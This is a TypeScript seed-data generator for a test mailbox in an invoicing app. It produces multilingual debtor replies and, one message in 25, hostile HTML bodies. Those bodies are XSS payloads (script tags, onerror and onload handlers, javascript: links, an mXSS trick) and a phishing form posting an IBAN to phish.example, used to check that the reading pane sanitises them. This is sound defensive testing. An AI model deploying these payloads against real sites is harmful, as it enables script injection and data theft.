/**
 * The seeded incoming mailbox of both administrations: debtors' replies over the 90 days before
 * SEED_REFERENCE_DATE, written in the customer's language (Dutch and English mostly, some French
 * and German), most linked to the customer and the invoices they quote, some to an issue, some
 * auto-replies and newsletters (not relevant), the last days unread. A few bodies are hostile HTML
 * (scripts, event handlers, javascript: links, frames, forms): what a mailbox really receives, and
 * what the reading pane must render inert.
 *
 * Deterministic (one generator per administration); the size per administration scales with
 * MOCK_SCALE (collections.ts), 200 at scale 1 and 10,000 at the benchmark's scale 50.
 */
import type { SeedContext } from '../db/collections';
import type { MailMessageRecord } from '../db/mailbox-schemas';
import type { IssueRecord } from '../db/issue-schemas';
import type { CustomerRecord, InvoiceRecord } from '../db/receivables-schemas';
import { isoDay } from './days';
import { administrationFixtures, type AdministrationFixture } from './fixtures';
import { createRandom, type Random } from './prng';
import { localeOf } from './receivables-catalogue';
import { REFERENCE_DAY } from './receivables';

type Language = 'nl' | 'en' | 'fr' | 'de';
type Kind = 'promise' | 'paid' | 'dispute' | 'arrangement' | 'copy' | 'address' | 'out-of-office' | 'newsletter';

interface Texts {
  subject: (invoice: string) => string;
  body: (vars: { invoice: string; date: string; name: string; amount: string }) => string;
}

/** What debtors write, per language and kind; `{invoice}` is the number they quote. */
const LETTERS: Record<Language, Record<Kind, Texts>> = {
  nl: {
    promise: { subject: (i) => `Re: Herinnering factuur ${i}`, body: (v) => `<p>Goedemiddag,</p><p>Excuses voor de vertraging. Wij betalen factuur <strong>${v.invoice}</strong> uiterlijk op ${v.date}.</p><p>Met vriendelijke groet,<br>${v.name}</p>` },
    paid: { subject: (i) => `Betaalbewijs factuur ${i}`, body: (v) => `<p>Beste heer/mevrouw,</p><p>Factuur ${v.invoice} (${v.amount}) is op ${v.date} voldaan. In de bijlage vindt u het betaalbewijs.</p><p>Groet,<br>${v.name}</p>` },
    dispute: { subject: (i) => `Bezwaar tegen factuur ${i}`, body: (v) => `<p>Geachte heer/mevrouw,</p><p>Wij gaan niet akkoord met factuur ${v.invoice}: de levering was onvolledig en de tweede pallet is nooit aangekomen. Graag ontvangen wij een creditnota.</p><p>${v.name}</p>` },
    arrangement: { subject: (i) => `Verzoek betalingsregeling ${i}`, body: (v) => `<p>Hallo,</p><p>Door een lastige periode kunnen wij ${v.amount} niet in één keer betalen. Is een regeling in drie termijnen mogelijk?</p><p>Alvast bedankt,<br>${v.name}</p>` },
    copy: { subject: (i) => `Kopie factuur ${i} gevraagd`, body: (v) => `<p>Goedemorgen,</p><p>Wij kunnen factuur ${v.invoice} niet terugvinden in onze administratie. Kunt u een kopie sturen?</p><p>${v.name}</p>` },
    address: { subject: () => 'Nieuw factuuradres', body: (v) => `<p>Beste,</p><p>Per 1 januari verhuist onze administratie. Wilt u facturen voortaan naar <a href="mailto:facturen@example.nl">facturen@example.nl</a> sturen?</p><p>${v.name}</p>` },
    'out-of-office': { subject: () => 'Automatisch antwoord: afwezig', body: (v) => `<p>Ik ben afwezig tot en met ${v.date} en heb beperkt toegang tot mijn e-mail.</p><p>${v.name}</p>` },
    newsletter: { subject: () => 'Nieuwsbrief: de laatste ontwikkelingen', body: () => '<h1>Nieuwsbrief</h1><p>Lees alles over onze nieuwe collectie.</p><p><a href="https://news.example.nl/afmelden">Afmelden</a></p><img src="https://news.example.nl/pixel.gif" alt="">' },
  },
  en: {
    promise: { subject: (i) => `Re: Reminder invoice ${i}`, body: (v) => `<p>Hello,</p><p>Sorry for the delay. We will pay invoice <strong>${v.invoice}</strong> by ${v.date} at the latest.</p><p>Kind regards,<br>${v.name}</p>` },
    paid: { subject: (i) => `Remittance advice ${i}`, body: (v) => `<p>Dear Sir or Madam,</p><p>Invoice ${v.invoice} (${v.amount}) was paid on ${v.date}. Please find the remittance advice attached.</p><p>Regards,<br>${v.name}</p>` },
    dispute: { subject: (i) => `Query on invoice ${i}`, body: (v) => `<p>Dear Sir or Madam,</p><p>We dispute invoice ${v.invoice}: the goods arrived damaged and we returned them on ${v.date}. Please issue a credit note.</p><p>${v.name}</p>` },
    arrangement: { subject: (i) => `Payment plan request ${i}`, body: (v) => `<p>Hi,</p><p>Cash flow is tight this quarter. Could we settle ${v.amount} in three monthly instalments?</p><p>Many thanks,<br>${v.name}</p>` },
    copy: { subject: (i) => `Copy of invoice ${i} please`, body: (v) => `<p>Good morning,</p><p>We cannot find invoice ${v.invoice} on our system. Could you send us a copy?</p><p>${v.name}</p>` },
    address: { subject: () => 'Change of billing address', body: (v) => `<p>Hello,</p><p>Our accounts team has moved. Please send invoices to <a href="mailto:invoices@example.co.uk">invoices@example.co.uk</a> from now on.</p><p>${v.name}</p>` },
    'out-of-office': { subject: () => 'Automatic reply: out of office', body: (v) => `<p>I am out of the office until ${v.date} with limited access to e-mail.</p><p>${v.name}</p>` },
    newsletter: { subject: () => 'Our newsletter: this month’s offers', body: () => '<h1>Newsletter</h1><p>Discover this month’s offers.</p><p><a href="https://news.example.co.uk/unsubscribe">Unsubscribe</a></p><img src="https://news.example.co.uk/pixel.gif" alt="">' },
  },
  fr: {
    promise: { subject: (i) => `Re: Rappel facture ${i}`, body: (v) => `<p>Bonjour,</p><p>Veuillez excuser le retard. Nous réglerons la facture <strong>${v.invoice}</strong> au plus tard le ${v.date}.</p><p>Cordialement,<br>${v.name}</p>` },
    paid: { subject: (i) => `Preuve de paiement facture ${i}`, body: (v) => `<p>Madame, Monsieur,</p><p>La facture ${v.invoice} (${v.amount}) a été réglée le ${v.date}. Vous trouverez le justificatif en pièce jointe.</p><p>${v.name}</p>` },
    dispute: { subject: (i) => `Contestation de la facture ${i}`, body: (v) => `<p>Madame, Monsieur,</p><p>Nous contestons la facture ${v.invoice} : la livraison était incomplète. Merci de nous adresser un avoir.</p><p>${v.name}</p>` },
    arrangement: { subject: (i) => `Demande d’échéancier ${i}`, body: (v) => `<p>Bonjour,</p><p>Pourrions-nous régler ${v.amount} en trois mensualités ?</p><p>Merci d’avance,<br>${v.name}</p>` },
    copy: { subject: (i) => `Copie de la facture ${i}`, body: (v) => `<p>Bonjour,</p><p>Nous ne retrouvons pas la facture ${v.invoice}. Pourriez-vous nous en envoyer une copie ?</p><p>${v.name}</p>` },
    address: { subject: () => 'Nouvelle adresse de facturation', body: (v) => `<p>Bonjour,</p><p>Merci d’envoyer désormais les factures à <a href="mailto:factures@example.fr">factures@example.fr</a>.</p><p>${v.name}</p>` },
    'out-of-office': { subject: () => 'Réponse automatique : absent', body: (v) => `<p>Je suis absent jusqu’au ${v.date}.</p><p>${v.name}</p>` },
    newsletter: { subject: () => 'Lettre d’information', body: () => '<h1>Lettre d’information</h1><p>Nos nouveautés du mois.</p>' },
  },
  de: {
    promise: { subject: (i) => `AW: Zahlungserinnerung Rechnung ${i}`, body: (v) => `<p>Guten Tag,</p><p>Entschuldigen Sie die Verzögerung. Wir begleichen die Rechnung <strong>${v.invoice}</strong> spätestens am ${v.date}.</p><p>Mit freundlichen Grüßen<br>${v.name}</p>` },
    paid: { subject: (i) => `Zahlungsnachweis Rechnung ${i}`, body: (v) => `<p>Sehr geehrte Damen und Herren,</p><p>Die Rechnung ${v.invoice} (${v.amount}) wurde am ${v.date} bezahlt. Den Zahlungsnachweis finden Sie im Anhang.</p><p>${v.name}</p>` },
    dispute: { subject: (i) => `Widerspruch gegen Rechnung ${i}`, body: (v) => `<p>Sehr geehrte Damen und Herren,</p><p>Wir widersprechen der Rechnung ${v.invoice}: Die Lieferung war unvollständig. Bitte senden Sie uns eine Gutschrift.</p><p>${v.name}</p>` },
    arrangement: { subject: (i) => `Bitte um Ratenzahlung ${i}`, body: (v) => `<p>Hallo,</p><p>Können wir ${v.amount} in drei Monatsraten zahlen?</p><p>Vielen Dank<br>${v.name}</p>` },
    copy: { subject: (i) => `Kopie der Rechnung ${i}`, body: (v) => `<p>Guten Morgen,</p><p>Wir finden die Rechnung ${v.invoice} nicht. Könnten Sie uns eine Kopie senden?</p><p>${v.name}</p>` },
    address: { subject: () => 'Neue Rechnungsadresse', body: (v) => `<p>Hallo,</p><p>Bitte senden Sie Rechnungen künftig an <a href="mailto:rechnungen@example.de">rechnungen@example.de</a>.</p><p>${v.name}</p>` },
    'out-of-office': { subject: () => 'Automatische Antwort: abwesend', body: (v) => `<p>Ich bin bis zum ${v.date} nicht im Büro.</p><p>${v.name}</p>` },
    newsletter: { subject: () => 'Newsletter: Neuigkeiten', body: () => '<h1>Newsletter</h1><p>Unsere Neuheiten des Monats.</p>' },
  },
};

/**
 * Hostile bodies: each would run script, navigate or load something if shown unsanitised. The
 * e2e journey opens them and checks nothing ran at page level (the `__xss` marker stays unset).
 * Each marks `window.top`, so a body that ran even inside a frame sharing the page's origin would show.
 */
export const HOSTILE_BODIES: readonly string[] = [
  '<p>Zie bijlage</p><script>window.top.__xss = "script"</script>',
  '<p>Invoice attached</p><img src="x" onerror="window.top.__xss = \'img-onerror\'">',
  '<p>Betaald</p><svg onload="window.top.__xss = \'svg-onload\'"><circle r="4"></circle></svg>',
  '<p>Please <a href="javascript:window.top.__xss=\'js-link\'">click here</a> to view the remittance.</p>',
  '<p>Rechnung</p><iframe src="javascript:window.top.__xss=\'iframe\'"></iframe><object data="data:text/html,<script>top.__xss=1</script>"></object>',
  '<form action="https://phish.example/collect"><input name="iban" value="NL00"><button>Bevestig</button></form><p>Bevestig uw rekeningnummer</p>',
  '<p style="background:url(javascript:top.__xss=1)">Paiement effectué</p><math><mtext><table><mglyph><style><img src=x onerror="top.__xss=\'mxss\'">',
  '<details open ontoggle="window.top.__xss=\'ontoggle\'"><summary>Details</summary>Payment proof</details><base href="https://evil.example/">',
];

const KINDS: readonly (readonly [Kind, number])[] = [
  ['promise', 0.26], ['paid', 0.18], ['dispute', 0.12], ['arrangement', 0.1], ['copy', 0.12], ['address', 0.05], ['out-of-office', 0.1], ['newsletter', 0.07],
];

function languageOf(random: Random, customer: CustomerRecord | undefined, admin: AdministrationFixture): Language {
  const language = customer?.language;
  if (language === 'nl' || language === 'en' || language === 'de' || language === 'fr') return language;
  return random.weighted(admin.country === 'NL' ? [['nl', 0.7], ['en', 0.15], ['de', 0.1], ['fr', 0.05]] : [['en', 0.8], ['fr', 0.1], ['de', 0.1]]);
}

function instantOn(random: Random, day: number): string {
  return `${isoDay(day)}T${String(random.int(6, 21)).padStart(2, '0')}:${String(random.int(0, 59)).padStart(2, '0')}:${String(random.int(0, 59)).padStart(2, '0')}.000Z`;
}

const formatAmount = (amount: string, country: string) => (country === 'NL' ? `€ ${amount.replace('.', ',')}` : `£${amount}`);

function messagesOf(
  admin: AdministrationFixture,
  count: number,
  customers: readonly CustomerRecord[],
  invoices: readonly InvoiceRecord[],
  issues: readonly IssueRecord[],
): MailMessageRecord[] {
  const random = createRandom(`mailbox:${admin.id}`);
  const locale = localeOf(admin.country);
  const mine = customers.filter((c) => c.administrationId === admin.id);
  const invoicesOfCustomer = new Map<string, InvoiceRecord[]>();
  for (const invoice of invoices) {
    if (invoice.administrationId !== admin.id) continue;
    const list = invoicesOfCustomer.get(invoice.customerId) ?? [];
    list.push(invoice);
    invoicesOfCustomer.set(invoice.customerId, list);
  }
  const debtors = mine.filter((c) => invoicesOfCustomer.has(c.id));
  if (debtors.length === 0) return [];
  const inbox = `${admin.country === 'NL' ? 'debiteuren' : 'credit.control'}@${admin.code}.receivables.example`;
  // Spread over 90 days, oldest first, so ids follow the received order.
  const days = Array.from({ length: count }, () => REFERENCE_DAY - random.int(0, 89)).sort((a, b) => a - b);
  return days.map((day, index): MailMessageRecord => {
    const id = `mail-${admin.code}-${String(index + 1).padStart(5, '0')}`;
    const kind = random.weighted(KINDS);
    const customer = random.pick(debtors);
    const own = invoicesOfCustomer.get(customer.id) ?? [];
    const invoice = random.pick(own);
    const language = languageOf(random, customer, admin);
    const first = random.pick(locale.firstNames);
    const surname = random.pick(locale.surnames);
    const name = `${first} ${surname}`;
    const bulk = kind === 'newsletter';
    const senderEmail = bulk ? `nieuws@${customer.email?.split('@')[1] ?? 'news.example'}` : customer.email ?? `${first.toLowerCase()}@${locale.mailboxes[0]}.${locale.domain}`;
    const texts = LETTERS[language][kind];
    const dueText = isoDay(day + random.int(3, 21));
    // One message in 25 is hostile, cycling through the corpus, so every administration's first
    // 200 hold each of its bodies.
    const hostile = index % 25 === 12;
    const body = hostile ? (HOSTILE_BODIES[Math.floor(index / 25) % HOSTILE_BODIES.length] as string) : texts.body({ invoice: invoice.number, date: dueText, name, amount: formatAmount(invoice.outstanding === '0.00' ? invoice.amount : invoice.outstanding, admin.country) });
    const age = REFERENCE_DAY - day;
    // The last days are still to be read; older mail mostly handled.
    const unread = age <= 3 ? random.next() < 0.85 : random.next() < 0.12;
    const receivedAt = instantOn(random, day);
    const readDate = unread ? null : instantOn(random, Math.min(REFERENCE_DAY, day + random.int(0, 2)));
    const noise = kind === 'out-of-office' || kind === 'newsletter';
    const completed = !unread && noise && random.next() < 0.7;
    const linked = !completed && !noise && random.next() < (unread ? 0.45 : 0.8);
    const extra = linked && own.length > 1 && random.next() < 0.2 ? random.pick(own.filter((i) => i.id !== invoice.id)) : undefined;
    const attachments: MailMessageRecord['attachments'] =
      kind === 'paid' || (kind === 'dispute' && random.next() < 0.4)
        ? [{
            id: `${id}-a1`,
            fileName: kind === 'paid' ? ({ nl: 'betaalbewijs.pdf', en: 'remittance-advice.pdf', fr: 'justificatif-paiement.pdf', de: 'zahlungsnachweis.pdf' } as const)[language] : ({ nl: 'pakbon.pdf', en: 'delivery-note.pdf', fr: 'bon-de-livraison.pdf', de: 'lieferschein.pdf' } as const)[language],
            contentType: 'application/pdf',
            size: random.int(18_000, 420_000),
            text: `${customer.name} — ${invoice.number}`,
          }]
        : [];
    return {
      id,
      administrationId: admin.id,
      senderName: bulk ? customer.name : name,
      senderEmail,
      recipients: [inbox],
      subject: texts.subject(invoice.number),
      receivedAt,
      readDate,
      completed,
      customerId: linked ? customer.id : null,
      customerNumber: linked ? customer.number : null,
      invoices: linked ? [invoice, ...(extra ? [extra] : [])].map((i) => ({ id: i.id, number: i.number })) : [],
      // A dispute names the issue that records it (about its invoice, else another of the customer's), when there is one.
      issueNumber: linked && kind === 'dispute' && random.next() < 0.6 ? issueAbout(issues, admin.id, customer.id, invoice.id) : null,
      version: 1,
      body,
      attachments,
    };
  });
}

export function seedMailMessages({ perAdministration, records }: SeedContext): MailMessageRecord[] {
  const customers = records('customers');
  const invoices = records('invoices');
  const issues = records('issues');
  return administrationFixtures.flatMap((admin) => messagesOf(admin, perAdministration, customers, invoices, issues));
}

/** The number of the customer's issue about the invoice (else their newest one), or null when they have none. */
function issueAbout(issues: readonly IssueRecord[], administrationId: string, customerId: string, invoiceId: string): string | null {
  const theirs = issues.filter((issue) => issue.administrationId === administrationId && issue.customerId === customerId);
  return (theirs.find((issue) => issue.invoiceIds.includes(invoiceId)) ?? theirs.at(-1))?.number ?? null;
}
